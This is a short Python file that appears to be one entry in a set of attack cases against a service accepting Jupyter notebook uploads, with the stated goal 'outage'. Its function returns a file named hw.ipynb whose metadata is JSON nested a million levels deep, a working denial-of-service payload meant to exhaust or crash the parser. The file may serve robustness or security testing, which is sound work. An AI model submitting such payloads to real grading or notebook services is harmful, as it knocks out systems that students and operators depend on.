"""JSON nested a million deep, in place of a notebook and in its metadata."""

GOAL = "outage"
TECHNIQUE = "odd notebooks"


def submission():
    depth = 1_000_000
    return "hw.ipynb", b'{"nbformat": 4, "metadata": ' + b"[" * depth + b"]" * depth + b', "cells": []}'
